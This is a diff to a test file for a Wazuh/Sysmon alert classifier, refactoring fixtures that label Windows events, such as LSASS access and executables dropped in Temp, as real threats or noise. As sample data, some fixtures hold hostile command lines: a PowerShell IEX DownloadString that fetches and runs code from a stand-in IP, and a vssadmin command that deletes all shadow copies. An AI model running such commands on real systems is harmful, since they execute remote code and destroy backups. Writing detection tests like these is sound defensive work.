@@ -1,6 +1,6 @@
 import { describe } from 'vitest'
 import { check } from '../../test/support/assessment-check.ts'
-import { sysmonProcess, windowsEvent } from '../../test/support/wazuh-alert.ts'
+import { type AlertParts, sysmonProcess, windowsEvent } from '../../test/support/wazuh-alert.ts'
 
 const sysmon = ['sysmon', 'sysmon_eid1_detections', 'windows']
 const dropped = ['sysmon', 'sysmon_eid11_detections', 'windows']
@@ -10,6 +10,25 @@ const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.e
 const cmd = 'C:\\Windows\\System32\\cmd.exe'
 const sysmonFile = (fields: { readonly [name: string]: string }) =>
   windowsEvent('11', 'Microsoft-Windows-Sysmon/Operational', fields)
+/** A program opens the memory of LSASS with these rights. */
+const opensLsass = (sourceImage: string, grantedAccess: string, by = ''): AlertParts => ({
+  rule: [
+    '92900',
+    12,
+    `Local Security Authority Subsystem Service (LSASS) process was accessed${by}`,
+    ['sysmon', 'sysmon_eid10_detections', 'windows'],
+  ],
+  data: windowsEvent('10', 'Microsoft-Windows-Sysmon/Operational', {
+    sourceImage,
+    targetImage: 'C:\\Windows\\System32\\lsass.exe',
+    grantedAccess,
+  }),
+})
+/** A program writes an executable where malware likes to be. */
+const drops = (image: string, targetFilename: string): AlertParts => ({
+  rule: ['92213', 15, 'Executable file dropped in folder commonly used by malware', dropped],
+  data: sysmonFile({ image, targetFilename }),
+})
 
 describe('Windows sessions and accounts', () => {
   check('logon', 'noise', {
@@ -107,45 +126,13 @@ describe('Windows programs', () => {
       commandLine: "powershell IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
     }),
   })
-  check('LSASS dump', 'person', {
-    rule: [
-      '92900',
-      12,
-      'Local Security Authority Subsystem Service (LSASS) process was accessed by C:\\x\\dump.exe, possible code injection',
-      ['sysmon', 'sysmon_eid10_detections', 'windows'],
-    ],
-    data: windowsEvent('10', 'Microsoft-Windows-Sysmon/Operational', {
-      sourceImage: 'C:\\x\\dump.exe',
-      targetImage: 'C:\\Windows\\System32\\lsass.exe',
-      grantedAccess: '0x1fffff',
-    }),
-  })
-  check('PowerShell opens LSASS', 'person', {
-    rule: [
-      '92900',
-      12,
-      'Local Security Authority Subsystem Service (LSASS) process was accessed',
-      ['sysmon', 'sysmon_eid10_detections', 'windows'],
-    ],
-    data: windowsEvent('10', 'Microsoft-Windows-Sysmon/Operational', {
-      sourceImage: powershell,
-      targetImage: 'C:\\Windows\\System32\\lsass.exe',
-      grantedAccess: '0x1010',
-    }),
-  })
-  check('WMI looks at LSASS', 'noise', {
-    rule: [
-      '92900',
-      12,
-      'Local Security Authority Subsystem Service (LSASS) process was accessed',
-      ['sysmon', 'sysmon_eid10_detections', 'windows'],
-    ],
-    data: windowsEvent('10', 'Microsoft-Windows-Sysmon/Operational', {
-      sourceImage: 'C:\\Windows\\System32\\wbem\\wmiprvse.exe',
-      targetImage: 'C:\\Windows\\System32\\lsass.exe',
-      grantedAccess: '0x1410',
-    }),
-  })
+  check(
+    'LSASS dump',
+    'person',
+    opensLsass('C:\\x\\dump.exe', '0x1fffff', ' by C:\\x\\dump.exe, possible code injection'),
+  )
+  check('PowerShell opens LSASS', 'person', opensLsass(powershell, '0x1010'))
+  check('WMI looks at LSASS', 'noise', opensLsass('C:\\Windows\\System32\\wbem\\wmiprvse.exe', '0x1410'))
   check('a prompt opened by hand', 'noise', {
     rule: ['92052', 4, 'Windows command prompt started by an abnormal process', sysmon],
     data: sysmonProcess({
@@ -154,20 +141,19 @@ describe('Windows programs', () => {
       commandLine: '"C:\\Windows\\System32\\cmd.exe"',
     }),
   })
-  check('an installer unpacks itself', 'noise', {
-    rule: ['92213', 15, 'Executable file dropped in folder commonly used by malware', dropped],
-    data: sysmonFile({
-      image: 'C:\\Users\\ann\\Downloads\\VC_redist.x64.exe',
-      targetFilename: 'C:\\Users\\ann\\AppData\\Local\\Temp\\x\\VC_redist.x64.exe',
-    }),
-  })
-  check('malware named like an updater', 'person', {
-    rule: ['92213', 15, 'Executable file dropped in folder commonly used by malware', dropped],
-    data: sysmonFile({
-      image: 'C:\\Users\\Public\\MicrosoftEdgeUpdate.exe',
-      targetFilename: 'C:\\Users\\ann\\AppData\\Local\\Temp\\a.exe',
-    }),
-  })
+  check(
+    'an installer unpacks itself',
+    'noise',
+    drops(
+      'C:\\Users\\ann\\Downloads\\VC_redist.x64.exe',
+      'C:\\Users\\ann\\AppData\\Local\\Temp\\x\\VC_redist.x64.exe',
+    ),
+  )
+  check(
+    'malware named like an updater',
+    'person',
+    drops('C:\\Users\\Public\\MicrosoftEdgeUpdate.exe', 'C:\\Users\\ann\\AppData\\Local\\Temp\\a.exe'),
+  )
   check('malware named like a part of Windows', 'person', {
     rule: [
       '61618',
@@ -202,19 +188,15 @@ describe('Windows programs', () => {
       destinationPort: '443',
     }),
   })
-  check('antivirus reads LSASS', 'noise', {
-    rule: [
-      '92900',
-      12,
-      'Local Security Authority Subsystem Service (LSASS) process was accessed by C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe',
-      ['sysmon', 'sysmon_eid10_detections', 'windows'],
-    ],
-    data: windowsEvent('10', 'Microsoft-Windows-Sysmon/Operational', {
-      sourceImage: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe',
-      targetImage: 'C:\\Windows\\System32\\lsass.exe',
-      grantedAccess: '0x1410',
-    }),
-  })
+  check(
+    'antivirus reads LSASS',
+    'noise',
+    opensLsass(
+      'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe',
+      '0x1410',
+      ' by C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe',
+    ),
+  )
   check('shadow copies deleted', 'person', {
     rule: ['92032', 3, 'Suspicious Windows cmd shell execution', sysmon],
     data: sysmonProcess({
@@ -223,27 +205,24 @@ describe('Windows programs', () => {
       commandLine: 'vssadmin delete shadows /all /quiet',
     }),
   })
-  check('browser updates itself', 'noise', {
-    rule: ['92213', 15, 'Executable file dropped in folder commonly used by malware', dropped],
-    data: sysmonFile({
-      image: 'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe',
-      targetFilename: 'C:\\Users\\ann\\AppData\\Local\\Temp\\chrome_installer.exe',
-    }),
-  })
-  check('policy test file', 'noise', {
-    rule: ['92213', 15, 'Executable file dropped in folder commonly used by malware', dropped],
-    data: sysmonFile({
-      image: powershell,
-      targetFilename: 'C:\\Users\\ann\\AppData\\Local\\Temp\\__PSScriptPolicyTest_ab12cd34.xyz.ps1',
-    }),
-  })
-  check('certutil writes a program', 'person', {
-    rule: ['92213', 15, 'Executable file dropped in folder commonly used by malware', dropped],
-    data: sysmonFile({
-      image: 'C:\\Windows\\System32\\certutil.exe',
-      targetFilename: 'C:\\Users\\ann\\AppData\\Local\\Temp\\svc.exe',
-    }),
-  })
+  check(
+    'browser updates itself',
+    'noise',
+    drops(
+      'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe',
+      'C:\\Users\\ann\\AppData\\Local\\Temp\\chrome_installer.exe',
+    ),
+  )
+  check(
+    'policy test file',
+    'noise',
+    drops(powershell, 'C:\\Users\\ann\\AppData\\Local\\Temp\\__PSScriptPolicyTest_ab12cd34.xyz.ps1'),
+  )
+  check(
+    'certutil writes a program',
+    'person',
+    drops('C:\\Windows\\System32\\certutil.exe', 'C:\\Users\\ann\\AppData\\Local\\Temp\\svc.exe'),
+  )
   check('Windows updates itself', 'noise', {
     rule: ['92219', 6, 'Possible DLL search order hijack', dropped],
     data: sysmonFile({
